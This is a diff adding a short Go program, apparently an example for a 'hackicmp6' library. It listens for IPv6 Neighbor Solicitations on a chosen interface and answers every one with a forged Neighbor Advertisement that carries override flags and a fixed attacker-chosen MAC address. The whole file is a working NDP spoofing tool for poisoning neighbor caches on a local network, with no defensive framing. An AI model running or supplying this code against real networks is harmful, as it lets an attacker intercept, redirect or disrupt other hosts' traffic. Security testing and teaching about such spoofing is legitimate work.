@@ -0,0 +1,53 @@
+// Listen for Neighbor Solicitations and answer them
+package main
+
+import (
+	"fmt"
+	"github.com/BobBurns/hackicmp6/hi6"
+	"os"
+)
+
+func main() {
+	if len(os.Args) < 2 {
+		fmt.Println("must specify interface!")
+		os.Exit(-1)
+	}
+	l := hi6.Listener{
+		Iface: os.Args[1],
+		Types: []hi6.ICMPType{hi6.ICMPTypeNeighborSolicitation},
+	}
+	c, err := l.Listen()
+	if err != nil {
+		fmt.Println(err)
+		os.Exit(-1)
+	}
+	defer l.Close()
+
+	for ns := range c {
+		fmt.Printf("NS from %s for %s\n", ns.SrcIP, ns.TargetAddr)
+
+		t := hi6.ICMP6{
+			Iface:      os.Args[1],
+			DstIP:      ns.SrcIP,
+			DstMAC:     ns.SrcMAC,
+			Type:       hi6.ICMPTypeNeighborAdvertisement,
+			Code:       0,
+			NA_Flags:   hi6.NA_FLAG_SOLICITED | hi6.NA_FLAG_OVERRIDE,
+			TargetAddr: ns.TargetAddr,
+		}
+		// change this
+		t.AddOption(hi6.Option{
+			Type: hi6.OPT_TARGET_LINKADDR,
+			Addr: "10:0b:a9:bb:bb:bb",
+		})
+		err = t.BuildICMPPacket()
+		if err != nil {
+			fmt.Println(err)
+			continue
+		}
+		err = l.Send(&t)
+		if err != nil {
+			fmt.Println(err)
+		}
+	}
+}